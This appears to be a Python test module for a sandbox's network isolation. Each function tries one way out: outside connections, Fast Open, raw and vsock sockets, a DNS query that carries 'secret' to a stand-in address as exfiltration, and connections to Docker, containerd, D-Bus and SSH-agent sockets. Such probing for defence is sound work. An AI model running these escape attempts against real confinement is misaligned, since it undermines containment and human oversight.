"""Attacks by sockets: connections to the host and elsewhere, servers, and families of sockets that nobody needs."""

from __future__ import annotations

import os
import socket
from pathlib import Path
from typing import Any

from attacks import Facts, Stopped, attack

SECONDS = 1.0
"""How long an answer is waited for."""
FAST_OPEN, MPTCP = 0x20000000, 262


def answered(connection: socket.socket) -> None:
    connection.settimeout(SECONDS)
    try:
        if not connection.recv(16):
            raise Stopped("nobody answers")
    except TimeoutError:
        raise Stopped("nobody answers") from None


def connect(family: int, address: Any, protocol: int = 0) -> None:
    with socket.socket(family, socket.SOCK_STREAM, protocol) as connection:
        connection.settimeout(SECONDS)
        connection.connect(address)
        answered(connection)


@attack
def connect_to_loopback(facts: Facts) -> None:
    connect(socket.AF_INET, tuple(facts["tcp"]))


@attack
def connect_elsewhere(facts: Facts) -> None:
    connect(socket.AF_INET, tuple(facts["outer"]))


@attack
def connect_while_sending(facts: Facts) -> None:
    """TCP Fast Open: no call of `connect`."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as connection:
        connection.sendto(b"x", FAST_OPEN, tuple(facts["tcp"]))
        answered(connection)


@attack
def connect_while_sending_a_message(facts: Facts) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as connection:
        connection.sendmsg([b"x"], [], FAST_OPEN, tuple(facts["tcp"]))
        answered(connection)


@attack
def connect_by_multipath(facts: Facts) -> None:
    """MPTCP: any TCP server understands it."""
    connect(socket.AF_INET, tuple(facts["tcp"]), MPTCP)


@attack
def connect_through_ipv6(facts: Facts) -> None:
    """To an IPv4 address in IPv6's form."""
    address, port = facts["tcp"]
    connect(socket.AF_INET6, (f"::ffff:{address}", port))


@attack
def serve_tcp(facts: Facts) -> None:
    """On every address of the machine."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as server:
        server.bind(("0.0.0.0", 0))
        server.listen()


@attack
def serve_tcp_without_binding(facts: Facts) -> None:
    """The system chooses a port where none was bound."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as server:
        server.listen()
        server.getsockname()


@attack
def send_udp(facts: Facts) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(b"x", tuple(facts["udp"]))
        answered(sender)


@attack
def ask_for_a_name(facts: Facts) -> None:
    """A name can carry what was stolen."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.connect(("192.0.2.53", 53))
        sender.send(b"\0\1\1\0\0\1\0\0\0\0\0\0\6secret\7example\0\0\1\0\1")


@attack
def make_a_ping_socket(facts: Facts) -> None:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP).close()


@attack
def make_a_raw_socket(facts: Facts) -> None:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP).close()


@attack
def make_a_packet_socket(facts: Facts) -> None:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()


@attack
def make_a_vsock(facts: Facts) -> None:
    """It leads out of a virtual machine, and no network namespace covers it."""
    socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).close()


@attack
def make_sockets_of_other_families(facts: Facts) -> None:
    made, reasons = [], set()
    for family in range(1, 46):
        if family in (socket.AF_UNIX, socket.AF_INET, socket.AF_INET6, socket.AF_NETLINK):
            continue
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
            try:
                socket.socket(family, kind).close()
                made.append(family)
            except OSError as error:
                reasons.add(error.strerror or "")
    if not made:
        raise Stopped(", ".join(sorted(reasons)))


@attack
def make_netlink_sockets(facts: Facts) -> None:
    """But those that tell addresses."""
    made, reasons = [], set()
    for protocol in range(1, 22):
        try:
            socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol).close()
            made.append(protocol)
        except OSError as error:
            reasons.add(error.strerror or "")
    if not made:
        raise Stopped(", ".join(sorted(reasons)))


@attack
def connect_to_an_abstract_socket(facts: Facts) -> None:
    connect(socket.AF_UNIX, "\0" + facts["abstract"])


@attack
def send_to_an_abstract_socket(facts: Facts) -> None:
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sender:
        sender.sendto(b"x", f"\0{facts['abstract']}-datagrams")


@attack
def connect_to_a_named_socket(facts: Facts) -> None:
    connect(socket.AF_UNIX, facts["named"])


@attack
def connect_to_another_kernel(facts: Facts) -> None:
    connect(socket.AF_UNIX, str(Path(facts["other"]) / "kernel.sock"))


@attack
def connect_to_services_of_the_machine(facts: Facts) -> None:
    places = ["/run/docker.sock", "/run/dbus/system_bus_socket", "/run/containerd/containerd.sock"]
    places += [os.environ[name] for name in ("SSH_AUTH_SOCK",) if name in os.environ]
    reasons = set()
    for place in places:
        try:
            with socket.socket(socket.AF_UNIX) as connection:
                connection.connect(place)
        except OSError as error:
            reasons.add(error.strerror or "")
        else:
            return
    raise Stopped(", ".join(sorted(reasons)))
